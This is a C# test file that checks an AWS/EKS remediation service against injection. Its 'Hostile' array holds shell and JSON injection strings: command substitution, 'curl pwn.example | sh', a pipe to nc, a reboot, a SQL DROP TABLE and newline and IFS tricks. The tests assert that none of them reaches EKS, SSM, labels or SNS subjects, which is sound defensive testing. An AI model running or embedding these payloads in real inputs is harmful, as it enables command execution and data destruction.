using System.Text.Json;
using System.Text.RegularExpressions;
using InstantOnRemediate.Reliability.Tests.BadInput;
using InstantOnRemediate.Reliability.Tests.Support;
using InstantOnRemediate.Testing;

namespace InstantOnRemediate.Reliability.Tests.Injection;

/// <summary>
/// Pod names, namespaces, containers, node names and log lines carrying shell and JSON metacharacters, pushed through
/// detect in enforce mode against moto_server: every request the service sends is captured by the proxy, and none
/// of the hostile text reaches an EKS mutation, an SSM command, a label, a tag or an SNS subject.
/// </summary>
[Collection(AwsEnvironmentCollection.Name)]
public sealed partial class InjectionTests(MotoWorld world) : IDisposable
{
    /// <summary>Each carries the marker "pwn" so a leak is found whatever escaping it went through.</summary>
    private static readonly string[] Hostile =
    [
        "$(touch /tmp/pwn)",
        "`id>/tmp/pwn`",
        "x; curl pwn.example | sh",
        "a\" , \"pwn\": \"1",
        "line\nInjected: pwn",
        "'; DROP TABLE pwn; --",
        "pwn && reboot",
        "pwn|nc 127.0.0.1 9",
        "${IFS}pwn",
    ];

    private readonly string state = Scratch.Directory("reliability-injection-");

    [Fact]
    public async Task Detect_HostilePodNamespaceContainerAndLogText_NeverReachMutationsCommandsLabelsOrSubjects()
    {
        const string cluster = "inj-eks";
        var nodes = (await world.SeedClusterAsync(cluster, 1))[MotoWorld.Al2Nodegroup];
        var events = new List<LogEvent>();
        var id = 1L;
        foreach (var text in Hostile)
        {
            // Real nodes (so correlation and actions happen) with hostile pod, namespace, container and log text.
            foreach (var (line, i) in Batches.Signal11Restore.Select((l, i) => (l, i)))
            {
                events.Add(new LogEvent(Batches.EventId(id * 10 + i), Batches.Start + (id * 1000) + i,
                    Batches.ContainerInsights(i == 0 ? line + " " + text : line, "orders-" + text, "shop" + text, nodes[(int)(id % nodes.Count)], "c" + text)));
            }

            id++;
        }

        world.Proxy.Reset();
        using var detect = world.Detect(Batches.Now, state);
        var response = await detect.ResponseAsync(Batches.Envelope(events, AwsScenario.LogGroupOf(cluster)));

        Assert.NotEmpty(response.GetProperty("findings").EnumerateArray());
        var sent = world.Proxy.Requests;
        Assert.Contains(sent, r => r.Operation == "UpdateNodegroupConfig");
        Assert.Contains(sent, r => r.Operation == "Publish");
        AssertNothingHostileIn(sent);
        AssertLabelsWithinGrammar(sent);
    }

    [Fact]
    public async Task Detect_HostileNodeNames_NeverSentToAws()
    {
        const string cluster = "inj-node-eks";
        await world.SeedClusterAsync(cluster, 1);
        var events = new List<LogEvent>();
        var id = 1L;
        foreach (var text in Hostile)
        {
            events.AddRange(Batches.Episode(id, Batches.Start + (id * 1000), "orders-" + id, node: "ip-10-0-0-1.ec2.internal" + text));
            id++;
        }

        world.Proxy.Reset();
        using var detect = world.Detect(Batches.Now, state);
        var response = await detect.ResponseAsync(Batches.Envelope(events, AwsScenario.LogGroupOf(cluster)));

        Assert.Equal(Hostile.Length, response.GetProperty("findings").GetArrayLength());
        Assert.DoesNotContain(world.Proxy.Requests, r => r.Service is "ec2" or "eks" or "ssm" && r.AllText.Contains("pwn", StringComparison.Ordinal));
        AssertNothingHostileIn(world.Proxy.Requests);
    }

    [Fact]
    public async Task Detect_HostileClusterInLogGroup_NeverReachesAws()
    {
        world.Proxy.Reset();
        using var detect = world.Detect(Batches.Now, state);

        var response = await detect.ResponseAsync(Batches.Envelope(BadInputs.Good, "/aws/containerinsights/prod$(pwn)/application"));

        Assert.DoesNotContain(world.Proxy.Requests, r => r.AllText.Contains("pwn", StringComparison.Ordinal) && r.Service != "dynamodb");
        Assert.DoesNotContain(response.GetProperty("plan").GetProperty("actions").EnumerateArray(), a => a.GetProperty("status").GetString() == "executed");
    }

    public void Dispose()
    {
        if (Directory.Exists(state))
        {
            Directory.Delete(state, recursive: true);
        }
    }

    private static void AssertNothingHostileIn(IReadOnlyList<ProxiedRequest> sent)
    {
        // DynamoDB holds findings as data (pod names included) and the SNS message body is text for people:
        // neither is a command. Everything else — EKS, SSM, EC2, SNS subjects and attributes — must be clean.
        foreach (var request in sent.Where(r => r.Service is not "dynamodb" && r.Operation != "Publish"))
        {
            Assert.False(request.AllText.Contains("pwn", StringComparison.Ordinal), $"{request.Service} {request.Operation} carries hostile text: {request.AllText}");
        }

        foreach (var publish in sent.Where(r => r.Operation == "Publish"))
        {
            var subject = AwsScenario.FormValue(publish, "Subject") ?? "";
            Assert.DoesNotContain("pwn", subject, StringComparison.Ordinal);
            Assert.True(subject.Length <= 100 && !subject.Any(char.IsControl), $"SNS subject not within its grammar: '{subject}'");
            var attributes = publish.DecodedBody.Split('&').Where(p => p.StartsWith("MessageAttributes", StringComparison.Ordinal));
            Assert.All(attributes, a => Assert.DoesNotContain("pwn", a, StringComparison.Ordinal));

            // One publish, a body per protocol. The texts for people may quote what the logs said; the commands they offer
            // to copy must not, nor may the chat notification's next steps.
            using var bodies = JsonDocument.Parse(AwsScenario.FormValue(publish, "Message") ?? "{}");
            foreach (var protocol in new[] { "default", "email" })
            {
                var commands = bodies.RootElement.GetProperty(protocol).GetString()!.Split('\n').Where(l => l.Contains("aws ", StringComparison.Ordinal) || l.Contains("kubectl ", StringComparison.Ordinal));
                Assert.All(commands, c => Assert.DoesNotContain("pwn", c, StringComparison.Ordinal));
            }

            using var chat = JsonDocument.Parse(bodies.RootElement.GetProperty("https").GetString()!);
            if (chat.RootElement.GetProperty("content").TryGetProperty("nextSteps", out var steps))
            {
                Assert.All(steps.EnumerateArray(), s => Assert.DoesNotContain("pwn", s.GetString(), StringComparison.Ordinal));
            }
        }
    }

    private static void AssertLabelsWithinGrammar(IReadOnlyList<ProxiedRequest> sent)
    {
        foreach (var update in sent.Where(r => r.Operation == "UpdateNodegroupConfig"))
        {
            var body = JsonDocument.Parse(update.Request.Body).RootElement;
            Assert.Matches(NodegroupPath(), update.Request.Path);
            if (body.TryGetProperty("labels", out var labels) && labels.TryGetProperty("addOrUpdateLabels", out var add))
            {
                foreach (var label in add.EnumerateObject())
                {
                    Assert.Matches(LabelKey(), label.Name);
                    Assert.Matches(LabelValue(), label.Value.GetString()!);
                }
            }
        }
    }

    [GeneratedRegex(@"^/clusters/[0-9A-Za-z][A-Za-z0-9_-]{0,99}/node-groups/[0-9A-Za-z][A-Za-z0-9_-]{0,62}/update-config$")]
    private static partial Regex NodegroupPath();

    [GeneratedRegex(@"^([a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*/)?[A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?$")]
    private static partial Regex LabelKey();

    [GeneratedRegex(@"^([A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?)?$")]
    private static partial Regex LabelValue();
}
